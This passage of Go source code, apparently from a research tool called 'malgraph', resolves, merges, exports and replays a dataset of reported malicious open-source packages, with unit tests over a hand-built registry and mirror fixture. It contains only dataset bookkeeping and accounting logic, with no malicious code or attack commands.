// Resolve merges a batch of raw observations against the existing dataset
// and returns the resulting Batch: merged entries for every touched
// coordinate, their absolute per-entry accounting (Stats), and the aggregate
// accounting delta (PerSource). The existing dataset is read, never written;
// the caller ingests the batch (core.Engine upserts the entries and applies
// the stats).
//
// Per coordinate, resolution follows Run: artifacts come source-first (an
// observation from an artifact-carrying source), then from the fleet —
// queried at most once per coordinate, at the resolver's collection instant.
// A definitive not-found marks the entry Missing; a transport failure aborts
// the whole batch with ErrUnresolved and records nothing. Duplicate
// deliveries are idempotent. A known source re-observing with a different
// timestamp keeps its first accounting contribution (its record is set),
// though an earlier timestamp or a late artifact still improves the entry.
func (rv *Resolver) Resolve(obs []Observation, existing *Result) (Batch, error) {
	if existing == nil {
		return Batch{}, fmt.Errorf("collect: resolve against nil dataset")
	}
	at := rv.at
	if at.IsZero() {
		at = existing.CollectedAt
	}
	byKey := make(map[string][]Observation)
	keys := make([]string, 0, len(obs))
	for _, o := range obs {
		info, known := sources.InfoFor(o.Source)
		if !known {
			return Batch{}, fmt.Errorf("%w: unknown source %d", ErrBadObservation, int(o.Source))
		}
		if !validEcosystem(o.Coord.Ecosystem) || o.Coord.Name == "" || o.Coord.Version == "" {
			return Batch{}, fmt.Errorf("%w: incomplete coordinate %q", ErrBadObservation, o.Coord.Key())
		}
		if o.Artifact != nil && o.Artifact.Coord != o.Coord {
			return Batch{}, fmt.Errorf("%w: artifact coordinate %s does not match %s",
				ErrBadObservation, o.Artifact.Coord.Key(), o.Coord.Key())
		}
		if !info.CarriesArtifacts {
			// Industry feeds publish names only (§II-B); an attached
			// artifact is dropped exactly as sources.Source.Observe drops it.
			o.Artifact = nil
		}
		key := o.Coord.Key()
		if _, seen := byKey[key]; !seen {
			keys = append(keys, key)
		}
		byKey[key] = append(byKey[key], o)
	}
	sort.Strings(keys)

	b := Batch{
		PerSource: make(map[sources.ID]SourceStats),
		Stats:     make(map[string]EntryStat, len(keys)),
		At:        at,
	}
	for _, key := range keys {
		group := byKey[key]
		// Within a coordinate, apply observations in ascending source order
		// — the order Run sees records in (set.All() iterates sources by
		// ID), so artifact choice among several carriers matches one-shot.
		sort.SliceStable(group, func(i, j int) bool { return group[i].Source < group[j].Source })

		cur, exists := existing.Entry(group[0].Coord)
		var next Entry
		var oldStat EntryStat
		if exists {
			next = *cur
			// The merged entry must never share slice backing with the
			// live dataset entry: append+sort below would otherwise
			// reorder cur.Sources in place (spare capacity lets append
			// write into the shared array), corrupting the engine's
			// stored entry before Upsert even sees the batch.
			next.Sources = append([]sources.ID(nil), cur.Sources...)
			oldStat = rv.statFor(existing, cur)
		} else {
			next = Entry{Coord: group[0].Coord}
		}

		var newSources []sources.ID
		carriedNew := false
		for _, o := range group {
			if !containsID(next.Sources, o.Source) {
				next.Sources = append(next.Sources, o.Source)
				if !containsID(newSources, o.Source) {
					newSources = append(newSources, o.Source)
				}
			}
			if !o.ObservedAt.IsZero() && (next.ObservedAt.IsZero() || o.ObservedAt.Before(next.ObservedAt)) {
				next.ObservedAt = o.ObservedAt
			}
			if o.Artifact != nil {
				carriedNew = true
				if next.Artifact == nil {
					next.Artifact = o.Artifact
					next.Availability = FromSource
					next.RecoveredFrom = ""
				}
			}
		}
		sort.Slice(next.Sources, func(i, j int) bool { return next.Sources[i] < next.Sources[j] })
		if carriedNew && next.Availability == FromMirror {
			// Source-first: the merged observation set now includes a
			// carrying source, which is how Run would have classified it.
			next.Availability = FromSource
			next.RecoveredFrom = ""
		}

		// Mirror outcome — needed for recovery when no source carries the
		// artifact, and for the accounting of artifact-less sources either
		// way (Run queries the fleet for every coordinate). Inference from
		// the existing entry avoids re-querying coordinates the dataset
		// already settled.
		var mirrorOK bool
		switch {
		case exists && cur.Availability == FromMirror:
			mirrorOK = true
		case exists && cur.Availability == Missing:
			mirrorOK = false
		case exists && len(oldStat.Local) > 0:
			mirrorOK = false
		default:
			out, err := rv.recover(group[0].Coord, at)
			if err != nil {
				return Batch{}, err
			}
			mirrorOK = out.ok
			if next.Artifact == nil {
				if out.ok {
					next.Artifact = out.art
					next.Availability = FromMirror
					next.RecoveredFrom = out.from
				} else {
					next.Availability = Missing
				}
			}
		}

		// Release metadata survives takedown (Fig. 7 timeline).
		if next.ReleasedAt.IsZero() || next.RemovedAt.IsZero() {
			if rel, ok := rv.release(group[0].Coord); ok {
				if next.ReleasedAt.IsZero() {
					next.ReleasedAt = rel.ReleasedAt
				}
				if next.RemovedAt.IsZero() {
					next.RemovedAt = rel.RemovedAt
				}
			}
		}

		// Accounting: previously settled sources keep their contribution
		// (local status depends only on their own record and the fixed
		// mirror outcome); new artifact-less sources join Local when the
		// mirror failed; the global flag is re-derived from the merged
		// state, exactly as Run derives it.
		newStat := EntryStat{Local: append([]sources.ID(nil), oldStat.Local...)}
		if !mirrorOK {
			for _, o := range group {
				if o.Artifact == nil && containsID(newSources, o.Source) && !containsID(newStat.Local, o.Source) {
					newStat.Local = append(newStat.Local, o.Source)
				}
			}
		}
		sort.Slice(newStat.Local, func(i, j int) bool { return newStat.Local[i] < newStat.Local[j] })
		newStat.Global = len(newStat.Local) > 0 && !mirrorOK && next.Availability != FromSource

		addStatDelta(b.PerSource, oldStat, newStat, newSources)
		b.Stats[key] = newStat
		entry := next
		b.Entries = append(b.Entries, &entry)
	}
	return b, nil
}

// statFor returns the recorded accounting for an existing entry, or the
// availability-derived approximation when the dataset has none.
func (rv *Resolver) statFor(existing *Result, e *Entry) EntryStat {
	if es, ok := existing.EntryStatFor(e.Coord.Key()); ok {
		return es
	}
	if e.Availability == Missing {
		return EntryStat{Local: e.Sources, Global: true}
	}
	return EntryStat{}
}

// recover queries the fleet once per coordinate, caching definitive
// outcomes. Transport failures are not cached — the next batch retries.
func (rv *Resolver) recover(coord ecosys.Coord, at time.Time) (recoverOutcome, error) {
	key := coord.Key()
	if out, ok := rv.recovered[key]; ok {
		return out, nil
	}
	art, from, err := rv.fleet.Recover(coord, at)
	if err != nil {
		if errors.Is(err, registry.ErrNotFound) {
			out := recoverOutcome{}
			rv.recovered[key] = out
			return out, nil
		}
		return recoverOutcome{}, fmt.Errorf("%w: %s: %w", ErrUnresolved, coord.Key(), err)
	}
	out := recoverOutcome{art: art, from: from, ok: true}
	rv.recovered[key] = out
	return out, nil
}

func (rv *Resolver) release(coord ecosys.Coord) (ecosys.Release, bool) {
	key := coord.Key()
	if rel, ok := rv.releases[key]; ok {
		return rel, true
	}
	rel, ok := rv.fleet.ReleaseInfo(coord)
	if !ok {
		return ecosys.Release{}, false
	}
	rv.releases[key] = rel
	return rel, true
}

// addStatDelta accumulates the per-source aggregate difference between an
// entry's old and new accounting (the shared ApplyStatDelta algorithm), plus
// one Total per newly observed source.
func addStatDelta(agg map[sources.ID]SourceStats, old, next EntryStat, newSources []sources.ID) {
	for _, s := range newSources {
		st := agg[s]
		st.Total++
		agg[s] = st
	}
	ApplyStatDelta(agg, old, next)
}

func validEcosystem(e ecosys.Ecosystem) bool {
	for _, known := range ecosys.All() {
		if e == known {
			return true
		}
	}
	return false
}
