package collect

// Dataset persistence mirrors the paper's §IV-A transparency model: a
// *public* export carries names, versions, sources and availability flags
// only (real malware cannot be published "because of ethical considerations,
// i.e., script kiddies"), while a *full* export additionally embeds the
// artifacts — the paper's request-access private repository.

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/sources"
)

// ExportMode selects how much of the dataset is serialised.
type ExportMode int

const (
	// ExportPublic omits artifacts: names/versions/metadata only.
	ExportPublic ExportMode = iota + 1
	// ExportFull embeds artifacts (the private, request-access dataset).
	ExportFull
)

type persistedEntry struct {
	Coord         ecosys.Coord     `json:"coord"`
	Availability  Availability     `json:"availability"`
	RecoveredFrom string           `json:"recoveredFrom,omitempty"`
	Sources       []sources.ID     `json:"sources"`
	ObservedAt    time.Time        `json:"observedAt"`
	ReleasedAt    time.Time        `json:"releasedAt"`
	RemovedAt     time.Time        `json:"removedAt"`
	Hash          string           `json:"hash,omitempty"`
	Artifact      *ecosys.Artifact `json:"artifact,omitempty"`
	// Blob references the artifact's bytes in a content-addressed store;
	// used by the manifest encoding (see manifest.go), never by WriteJSON.
	Blob string `json:"blob,omitempty"`
	// Stats preserves the entry's exact per-source accounting so a restored
	// dataset (engine warm restart) keeps applying correct accounting
	// deltas when later batches extend the entry. Absent in legacy exports;
	// readers fall back to the availability approximation.
	Stats *EntryStat `json:"stats,omitempty"`
}

type persistedResult struct {
	Mode        string                 `json:"mode"`
	CollectedAt time.Time              `json:"collectedAt"`
	PerSource   map[string]SourceStats `json:"perSource"`
	Entries     []persistedEntry       `json:"entries"`
}

// WriteJSON serialises the dataset deterministically.
func (r *Result) WriteJSON(w io.Writer, mode ExportMode) error {
	p := persistedResult{
		CollectedAt: r.CollectedAt,
		PerSource:   make(map[string]SourceStats, len(r.PerSource)),
	}
	switch mode {
	case ExportFull:
		p.Mode = "full"
	default:
		p.Mode = "public"
	}
	ids := make([]sources.ID, 0, len(r.PerSource))
	for id := range r.PerSource {
		ids = append(ids, id)
	}
	sort.Slice(ids, func(i, j int) bool { return ids[i] < ids[j] })
	for _, id := range ids {
		p.PerSource[fmt.Sprint(int(id))] = r.PerSource[id]
	}
	for _, e := range r.Entries {
		pe := persistedEntry{
			Coord:         e.Coord,
			Availability:  e.Availability,
			RecoveredFrom: e.RecoveredFrom,
			Sources:       e.Sources,
			ObservedAt:    e.ObservedAt,
			ReleasedAt:    e.ReleasedAt,
			RemovedAt:     e.RemovedAt,
		}
		if e.Artifact != nil {
			pe.Hash = e.Artifact.Hash()
			if mode == ExportFull {
				pe.Artifact = e.Artifact
			}
		}
		if es, ok := r.EntryStatFor(e.Coord.Key()); ok {
			pe.Stats = &es
		}
		p.Entries = append(p.Entries, pe)
	}
	enc := json.NewEncoder(w)
	return enc.Encode(p)
}

// ReadJSON restores a dataset written with WriteJSON. Public-mode datasets
// come back with nil artifacts but intact accounting; hash fields let
// a later artifact supplement be verified against the original collection.
func ReadJSON(rd io.Reader) (*Result, error) {
	var p persistedResult
	if err := json.NewDecoder(rd).Decode(&p); err != nil {
		return nil, fmt.Errorf("dataset decode: %w", err)
	}
	res := &Result{
		CollectedAt: p.CollectedAt,
		PerSource:   make(map[sources.ID]SourceStats, len(p.PerSource)),
		byKey:       make(map[string]*Entry, len(p.Entries)),
	}
	for raw, st := range p.PerSource {
		var id int
		if _, err := fmt.Sscanf(raw, "%d", &id); err != nil {
			return nil, fmt.Errorf("dataset decode: bad source id %q", raw)
		}
		res.PerSource[sources.ID(id)] = st
	}
	for _, pe := range p.Entries {
		e := &Entry{
			Coord:         pe.Coord,
			Availability:  pe.Availability,
			RecoveredFrom: pe.RecoveredFrom,
			Sources:       pe.Sources,
			ObservedAt:    pe.ObservedAt,
			ReleasedAt:    pe.ReleasedAt,
			RemovedAt:     pe.RemovedAt,
			Artifact:      pe.Artifact,
		}
		if pe.Artifact != nil && pe.Hash != "" && pe.Artifact.Hash() != pe.Hash {
			return nil, fmt.Errorf("dataset decode: artifact hash mismatch for %s", pe.Coord)
		}
		if pe.Stats != nil {
			if res.statsByKey == nil {
				res.statsByKey = make(map[string]EntryStat, len(p.Entries))
			}
			res.statsByKey[e.Coord.Key()] = *pe.Stats
		}
		res.Entries = append(res.Entries, e)
		res.byKey[e.Coord.Key()] = e
	}
	sort.Slice(res.Entries, func(i, j int) bool {
		return res.Entries[i].Coord.Key() < res.Entries[j].Coord.Key()
	})
	return res, nil
}

// Supplement merges artifacts from another dataset into entries that are
// missing them — the paper's hoped-for community workflow ("we hope the
// community can help us supplement the missing packages"). An artifact is
// accepted only for a coordinate already present. It returns how many
// entries were upgraded.
func (r *Result) Supplement(other *Result) int {
	upgraded := 0
	for _, o := range other.Entries {
		if o.Artifact == nil {
			continue
		}
		e, ok := r.byKey[o.Coord.Key()]
		if !ok || e.Artifact != nil {
			continue
		}
		e.Artifact = o.Artifact
		e.Availability = FromSource
		e.RecoveredFrom = "supplement"
		upgraded++
	}
	return upgraded
}
