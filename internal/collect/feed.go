package collect

// Batch replay turns a one-shot collection Result into the feed a long-lived
// ingest service consumes: the paper's registries and report feeds publish new
// malicious packages continuously (§II-B), so the streaming architecture
// replays the simulated world's timeline as time-ordered entry batches whose
// per-batch source accounting sums back to the whole. core.Engine ingests
// these batches; the Upsert/AddSourceStats helpers below are the merge
// primitives it uses to maintain its own incremental Result.

import (
	"sort"
	"time"

	"malgraph/internal/sources"
)

// Batch is one feed installment: a slice of dataset entries plus the slice of
// per-source accounting those entries contributed to the full collection.
type Batch struct {
	Entries   []*Entry
	PerSource map[sources.ID]SourceStats
	// Stats carries each entry's absolute per-source accounting, keyed by
	// coordinate. Consumers that merge batches incrementally (core.Engine)
	// apply the delta against their recorded stat instead of trusting the
	// PerSource aggregate, which keeps accounting exact even when the same
	// coordinate is extended by several batches (the external ingest path)
	// or a batch is replayed after a warm restart.
	Stats map[string]EntryStat
	// At is the collection instant of the originating dataset (constant
	// across batches — availability was evaluated once, at collection time).
	At time.Time
}

// Feed iterates a dataset as consecutive batches.
type Feed struct {
	batches []Batch
	next    int
}

// NewFeed partitions the dataset into k time-ordered batches (by earliest
// observation, ties broken by coordinate key) of near-equal size. k is
// clamped to [1, len(entries)]; an empty dataset yields a single empty batch.
func NewFeed(r *Result, k int) *Feed {
	ordered := make([]*Entry, len(r.Entries))
	copy(ordered, r.Entries)
	sort.Slice(ordered, func(i, j int) bool {
		if !ordered[i].ObservedAt.Equal(ordered[j].ObservedAt) {
			return ordered[i].ObservedAt.Before(ordered[j].ObservedAt)
		}
		return ordered[i].Coord.Key() < ordered[j].Coord.Key()
	})
	return &Feed{batches: PartitionBatches(r, ordered, k)}
}

// PartitionBatches splits an explicit entry ordering into k contiguous
// batches with accounting sliced per batch. The ordering must be a
// permutation of r.Entries (the shuffle property tests exercise arbitrary
// permutations; NewFeed supplies the timeline ordering).
func PartitionBatches(r *Result, ordered []*Entry, k int) []Batch {
	if k < 1 {
		k = 1
	}
	if k > len(ordered) && len(ordered) > 0 {
		k = len(ordered)
	}
	if len(ordered) == 0 {
		return []Batch{{PerSource: map[sources.ID]SourceStats{}, At: r.CollectedAt}}
	}
	out := make([]Batch, 0, k)
	for i := 0; i < k; i++ {
		lo, hi := i*len(ordered)/k, (i+1)*len(ordered)/k
		out = append(out, r.BatchOf(ordered[lo:hi]))
	}
	return out
}

// Next returns the next batch, or ok=false when the feed is exhausted.
func (f *Feed) Next() (Batch, bool) {
	if f.next >= len(f.batches) {
		return Batch{}, false
	}
	b := f.batches[f.next]
	f.next++
	return b, true
}

// Len returns the total number of batches in the feed.
func (f *Feed) Len() int { return len(f.batches) }

// Remaining returns how many batches Next has not yet returned.
func (f *Feed) Remaining() int { return len(f.batches) - f.next }

// BatchOf assembles the batch for a subset of this dataset's entries,
// attributing exactly the per-source accounting those entries generated
// during Run. For datasets without recorded per-entry stats (hand-built or
// JSON-loaded), the accounting is approximated from each entry's final
// availability: a Missing entry counts against every source that reported it.
func (r *Result) BatchOf(entries []*Entry) Batch {
	b := Batch{
		Entries:   entries,
		PerSource: make(map[sources.ID]SourceStats),
		Stats:     make(map[string]EntryStat, len(entries)),
		At:        r.CollectedAt,
	}
	for _, e := range entries {
		es, recorded := r.EntryStatFor(e.Coord.Key())
		if !recorded && e.Availability == Missing {
			es = EntryStat{Local: e.Sources, Global: true}
		}
		b.Stats[e.Coord.Key()] = es
		for _, id := range e.Sources {
			st := b.PerSource[id]
			st.Total++
			b.PerSource[id] = st
		}
		for _, id := range es.Local {
			st := b.PerSource[id]
			st.LocalUnavailable++
			if es.Global {
				st.GlobalMissing++
			}
			b.PerSource[id] = st
		}
	}
	return b
}

// EntryStatFor returns the recorded per-source accounting for a coordinate
// key. recorded=false when the dataset carries no per-entry stats for it
// (hand-built datasets or legacy JSON); callers then fall back to the
// availability-derived approximation BatchOf uses.
func (r *Result) EntryStatFor(key string) (EntryStat, bool) {
	if r.statsByKey == nil {
		return EntryStat{}, false
	}
	es, ok := r.statsByKey[key]
	return es, ok
}

// ApplyEntryStat replaces the recorded accounting for key with next and
// applies the difference to PerSource (locally-unavailable and
// globally-missing counts only — Total is attributed by the caller, which
// knows which sources are newly observed). Applying an identical stat is a
// no-op, so batch replays are idempotent, and a later batch that upgrades an
// entry (new carrying source, recovered artifact) corrects the aggregates
// exactly.
func (r *Result) ApplyEntryStat(key string, next EntryStat) {
	if r.statsByKey == nil {
		r.statsByKey = make(map[string]EntryStat)
	}
	ApplyStatDelta(r.PerSource, r.statsByKey[key], next)
	r.statsByKey[key] = next
}

// ApplyStatDelta applies the per-source aggregate difference between an
// entry's old and next accounting to agg. It is the single implementation of
// the telescoping-delta algorithm: ApplyEntryStat uses it against a dataset's
// PerSource, the observation resolver against a batch's delta map — the two
// must agree bit-for-bit for the partition-equivalence contract to hold.
func ApplyStatDelta(agg map[sources.ID]SourceStats, old, next EntryStat) {
	for _, s := range next.Local {
		in := containsID(old.Local, s)
		st := agg[s]
		if !in {
			st.LocalUnavailable++
		}
		if next.Global && !(old.Global && in) {
			st.GlobalMissing++
		}
		agg[s] = st
	}
	for _, s := range old.Local {
		in := containsID(next.Local, s)
		st := agg[s]
		if !in {
			st.LocalUnavailable--
		}
		if old.Global && !(next.Global && in) {
			st.GlobalMissing--
		}
		agg[s] = st
	}
}

// AddTotals attributes newly observed (source, package) pairs to PerSource.
func (r *Result) AddTotals(ids []sources.ID) {
	for _, id := range ids {
		st := r.PerSource[id]
		st.Total++
		r.PerSource[id] = st
	}
}

// AddSourceStats accumulates a batch's per-source accounting.
func (r *Result) AddSourceStats(stats map[sources.ID]SourceStats) {
	for id, st := range stats {
		cur := r.PerSource[id]
		cur.Total += st.Total
		cur.LocalUnavailable += st.LocalUnavailable
		cur.GlobalMissing += st.GlobalMissing
		r.PerSource[id] = cur
	}
}

// Upsert merges one entry into the dataset. A new coordinate stores the entry
// as-is and reports added=true. A known coordinate is merged field-wise —
// union of sources, earliest observation, artifact adopted when previously
// absent, zero timestamps filled — into a fresh copy (the previously stored
// entry is never mutated, so pointers handed out before the upsert stay
// consistent snapshots); changed reports whether anything differed. The
// merged (or stored) entry is returned. Entries stays sorted by key.
//
// Each new coordinate shifts the sorted Entries slice — O(n) per insert. For
// batch ingest use UpsertBatch, which defers the inserts and pays one merge.
func (r *Result) Upsert(e *Entry) (merged *Entry, added, changed bool) {
	out := r.UpsertBatch([]*Entry{e})
	return out[0].Entry, out[0].Added, out[0].Changed
}

// UpsertResult reports what one UpsertBatch entry did to the dataset: the
// stored (merged) entry, whether the coordinate was new, whether anything
// changed, and the pre-merge source/artifact state incremental consumers
// (core.Engine) diff against.
type UpsertResult struct {
	Entry        *Entry
	Added        bool
	Changed      bool
	PrevSources  []sources.ID
	PrevArtifact bool
}

// UpsertBatch merges a batch of entries with Upsert's exact field-wise
// semantics, but amortises the sorted-Entries maintenance: new coordinates
// are collected aside and merged into the slice once at the end — O(n + b
// log b) per batch instead of Upsert's O(n) memmove per new coordinate (a
// ROADMAP-listed corpus-linear append term). Nil entries are skipped (no
// result emitted). Later batch entries see earlier ones (two records of the
// same new coordinate merge exactly as two sequential Upserts would).
func (r *Result) UpsertBatch(entries []*Entry) []UpsertResult {
	out := make([]UpsertResult, 0, len(entries))
	var pending []*Entry
	var pendingKeys []string
	var pendingIdx map[string]int
	for _, e := range entries {
		if e == nil {
			continue
		}
		key := e.Coord.Key()
		cur, ok := r.byKey[key]
		if !ok {
			r.byKey[key] = e
			if pendingIdx == nil {
				pendingIdx = make(map[string]int)
			}
			pendingIdx[key] = len(pending)
			pending = append(pending, e)
			pendingKeys = append(pendingKeys, key)
			out = append(out, UpsertResult{Entry: e, Added: true})
			continue
		}
		res := UpsertResult{Entry: cur, PrevSources: cur.Sources, PrevArtifact: cur.Artifact != nil}
		next, changed := mergeEntry(cur, e)
		if changed {
			res.Entry, res.Changed = next, true
			r.byKey[key] = next
			if pi, isPending := pendingIdx[key]; isPending {
				pending[pi] = next
			} else {
				i := sort.Search(len(r.Entries), func(i int) bool { return r.Entries[i].Coord.Key() >= key })
				r.Entries[i] = next
			}
		}
		out = append(out, res)
	}
	if len(pending) > 0 {
		r.mergeInserts(pending, pendingKeys)
	}
	return out
}

// mergeEntry merges an incoming record into a stored entry, returning a fresh
// merged copy and whether anything differed (the stored entry is never
// mutated, so pointers handed out earlier stay consistent snapshots).
func mergeEntry(cur, e *Entry) (*Entry, bool) {
	next := *cur
	changed := false
	if srcs, grew := unionSources(cur.Sources, e.Sources); grew {
		next.Sources = srcs
		changed = true
	}
	if !e.ObservedAt.IsZero() && (next.ObservedAt.IsZero() || e.ObservedAt.Before(next.ObservedAt)) {
		next.ObservedAt = e.ObservedAt
		changed = true
	}
	if next.Artifact == nil && e.Artifact != nil {
		next.Artifact = e.Artifact
		next.Availability = e.Availability
		next.RecoveredFrom = e.RecoveredFrom
		changed = true
	} else if next.Availability == FromMirror && e.Availability == FromSource {
		// A later batch brought a source that carries the artifact. Run
		// resolves source-first, so the one-shot collection of the merged
		// observations classifies this entry FromSource; adopt that
		// classification (the artifact content is the same package either
		// way) to keep any-partition ingest equivalent to one-shot.
		next.Availability = FromSource
		next.RecoveredFrom = ""
		changed = true
	}
	if next.ReleasedAt.IsZero() && !e.ReleasedAt.IsZero() {
		next.ReleasedAt = e.ReleasedAt
		changed = true
	}
	if next.RemovedAt.IsZero() && !e.RemovedAt.IsZero() {
		next.RemovedAt = e.RemovedAt
		changed = true
	}
	if !changed {
		return cur, false
	}
	return &next, true
}

// mergeInserts splices the batch's new entries (parallel pendingKeys carry
// their coordinate keys) into the key-sorted Entries slice with one backwards
// in-place merge: b binary searches locate the insertion points (Coord.Key
// allocates, so comparisons are kept off the move path) and the old entries
// move in contiguous copy chunks.
func (r *Result) mergeInserts(pending []*Entry, pendingKeys []string) {
	sort.Sort(&entriesByKey{pending, pendingKeys})
	old := r.Entries
	pos := make([]int, len(pending))
	hi := len(old)
	for j := len(pending) - 1; j >= 0; j-- {
		key := pendingKeys[j]
		pos[j] = sort.Search(hi, func(i int) bool { return old[i].Coord.Key() >= key })
		hi = pos[j]
	}
	r.Entries = append(r.Entries, pending...)
	k := len(r.Entries) - 1
	hi = len(old)
	for j := len(pending) - 1; j >= 0; j-- {
		n := hi - pos[j]
		copy(r.Entries[k-n+1:k+1], old[pos[j]:hi])
		k -= n
		r.Entries[k] = pending[j]
		k--
		hi = pos[j]
	}
}

// entriesByKey sorts a pending insert slice and its parallel key slice
// together (keys are precomputed once — Coord.Key allocates).
type entriesByKey struct {
	entries []*Entry
	keys    []string
}

func (s *entriesByKey) Len() int           { return len(s.entries) }
func (s *entriesByKey) Less(i, j int) bool { return s.keys[i] < s.keys[j] }
func (s *entriesByKey) Swap(i, j int) {
	s.entries[i], s.entries[j] = s.entries[j], s.entries[i]
	s.keys[i], s.keys[j] = s.keys[j], s.keys[i]
}

// unionSources merges two ascending source lists, reporting whether the
// result has members beyond a.
func unionSources(a, b []sources.ID) ([]sources.ID, bool) {
	missing := 0
	for _, id := range b {
		if !containsID(a, id) {
			missing++
		}
	}
	if missing == 0 {
		return a, false
	}
	out := make([]sources.ID, 0, len(a)+missing)
	out = append(out, a...)
	for _, id := range b {
		if !containsID(a, id) {
			out = append(out, id)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out, true
}

func containsID(ids []sources.ID, id sources.ID) bool {
	for _, x := range ids {
		if x == id {
			return true
		}
	}
	return false
}
