package collect

import (
	"testing"

	"malgraph/internal/ecosys"
	"malgraph/internal/sources"
)

func runFixture(t *testing.T) *Result {
	t.Helper()
	set, fleet := fixture(t)
	res, err := Run(set, fleet, day(30))
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// sumBatches replays a feed and accumulates it like the engine does.
func sumBatches(t *testing.T, r *Result, batches []Batch) *Result {
	t.Helper()
	acc := NewResult(r.CollectedAt)
	total := 0
	for _, b := range batches {
		for _, e := range b.Entries {
			if _, added, _ := acc.Upsert(e); !added {
				t.Fatalf("entry %s appeared in two batches", e.Coord)
			}
			total++
		}
		acc.AddSourceStats(b.PerSource)
	}
	if total != len(r.Entries) {
		t.Fatalf("batches carried %d entries, dataset has %d", total, len(r.Entries))
	}
	return acc
}

func TestFeedTimeOrderedPartition(t *testing.T) {
	res := runFixture(t)
	feed := NewFeed(res, 2)
	if feed.Len() != 2 || feed.Remaining() != 2 {
		t.Fatalf("feed shape: len=%d remaining=%d", feed.Len(), feed.Remaining())
	}
	var batches []Batch
	var prevLast *Entry
	for {
		b, ok := feed.Next()
		if !ok {
			break
		}
		// Time ordering holds across batch boundaries.
		for _, e := range b.Entries {
			if prevLast != nil && e.ObservedAt.Before(prevLast.ObservedAt) {
				t.Fatalf("batch entries out of time order: %v < %v", e.ObservedAt, prevLast.ObservedAt)
			}
			prevLast = e
		}
		batches = append(batches, b)
	}
	if _, ok := feed.Next(); ok {
		t.Fatal("exhausted feed yielded a batch")
	}

	acc := sumBatches(t, res, batches)
	// Merged accounting equals the one-shot accounting, source by source.
	for _, info := range sources.Catalog() {
		if got, want := acc.PerSource[info.ID], res.PerSource[info.ID]; got != want {
			t.Fatalf("%s stats: batched %+v, one-shot %+v", info.ID, got, want)
		}
	}
	// Entries land sorted by key, like a one-shot Run.
	for i, e := range acc.Entries {
		if e != res.Entries[i] && e.Coord.Key() != res.Entries[i].Coord.Key() {
			t.Fatalf("entry %d: %s vs %s", i, e.Coord, res.Entries[i].Coord)
		}
	}
	if acc.TotalMR() != res.TotalMR() {
		t.Fatalf("missing rate: batched %v, one-shot %v", acc.TotalMR(), res.TotalMR())
	}
}

func TestFeedClampsK(t *testing.T) {
	res := runFixture(t)
	if got := NewFeed(res, 0).Len(); got != 1 {
		t.Fatalf("k=0 feed len = %d", got)
	}
	if got := NewFeed(res, 100).Len(); got != len(res.Entries) {
		t.Fatalf("k=100 feed len = %d (entries %d)", got, len(res.Entries))
	}
	empty := NewResult(day(30))
	f := NewFeed(empty, 3)
	if f.Len() != 1 {
		t.Fatalf("empty feed len = %d", f.Len())
	}
	b, ok := f.Next()
	if !ok || len(b.Entries) != 0 {
		t.Fatalf("empty feed batch = %+v ok=%v", b, ok)
	}
}

func TestBatchOfFallbackWithoutRecordedStats(t *testing.T) {
	res := runFixture(t)
	// Simulate a JSON round-trip losing per-entry stats.
	res.statsByKey = nil
	b := res.BatchOf(res.Entries)
	// Totals are exact; unavailability falls back to final availability, which
	// for this fixture (every locally-unavailable entry is globally missing)
	// matches the recorded accounting.
	for _, info := range sources.Catalog() {
		if got, want := b.PerSource[info.ID], res.PerSource[info.ID]; got != want {
			t.Fatalf("%s fallback stats: %+v want %+v", info.ID, got, want)
		}
	}
}

func TestUpsertMergesAndCopies(t *testing.T) {
	acc := NewResult(day(30))
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "pkg-x", Version: "1.0.0"}
	first := &Entry{Coord: coord, Availability: Missing, Sources: []sources.ID{sources.Snyk}, ObservedAt: day(5)}
	stored, added, changed := acc.Upsert(first)
	if !added || changed || stored != first {
		t.Fatalf("first upsert: added=%v changed=%v", added, changed)
	}

	second := &Entry{
		Coord: coord, Availability: FromSource, Artifact: art("pkg-x"),
		Sources: []sources.ID{sources.Backstabber}, ObservedAt: day(3), ReleasedAt: day(1),
	}
	merged, added, changed := acc.Upsert(second)
	if added || !changed {
		t.Fatalf("merge upsert: added=%v changed=%v", added, changed)
	}
	if len(merged.Sources) != 2 || merged.Sources[0] != sources.Backstabber || merged.Sources[1] != sources.Snyk {
		t.Fatalf("merged sources = %v", merged.Sources)
	}
	if merged.Artifact == nil || merged.Availability != FromSource {
		t.Fatalf("artifact not adopted: %+v", merged)
	}
	if !merged.ObservedAt.Equal(day(3)) || !merged.ReleasedAt.Equal(day(1)) {
		t.Fatalf("timestamps not merged: %+v", merged)
	}
	// The originally stored entry must not have been mutated.
	if len(first.Sources) != 1 || first.Artifact != nil {
		t.Fatalf("first entry mutated: %+v", first)
	}
	// Idempotent re-upsert of the merged state is a no-op.
	if _, added, changed := acc.Upsert(second); added || changed {
		t.Fatal("re-upsert must be a no-op")
	}
	if got, ok := acc.Entry(coord); !ok || got != merged {
		t.Fatalf("Entry lookup after merge: %+v ok=%v", got, ok)
	}
}
