package collect

import (
	"testing"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/registry"
	"malgraph/internal/sources"
	"malgraph/internal/world"
)

var t0 = time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC)

func day(n int) time.Time { return t0.AddDate(0, 0, n) }

func art(name string) *ecosys.Artifact {
	return ecosys.NewArtifact(
		ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: "1.0.0"},
		"d",
		[]ecosys.File{{Path: "setup.py", Content: "import os # " + name}},
	)
}

// fixture builds a hand-crafted scenario:
//   - pkgA: carried by Backstabber (academia) → FromSource
//   - pkgB: names-only via Snyk, alive long enough for the mirror → FromMirror
//   - pkgC: names-only via Socket, removed within the sync gap → Missing
//   - pkgB also observed by Tianwen → occurrence 2, overlap edge
func fixture(t *testing.T) (*sources.Set, *registry.Fleet) {
	t.Helper()
	fleet := registry.NewFleet()
	root := registry.New("pypi-root", ecosys.PyPI)
	fleet.AddRoot(root)
	m, err := registry.NewMirror("tuna", root, registry.SyncAccumulate, day(0), 2*24*time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	fleet.AddMirror(m)

	a, b, c := art("pkg-a"), art("pkg-b"), art("pkg-c")
	for _, pub := range []struct {
		a       *ecosys.Artifact
		rel     time.Time
		removed time.Time
	}{
		{a, day(1), day(2)},
		{b, day(3), day(9)}, // alive across syncs at day 4,6,8
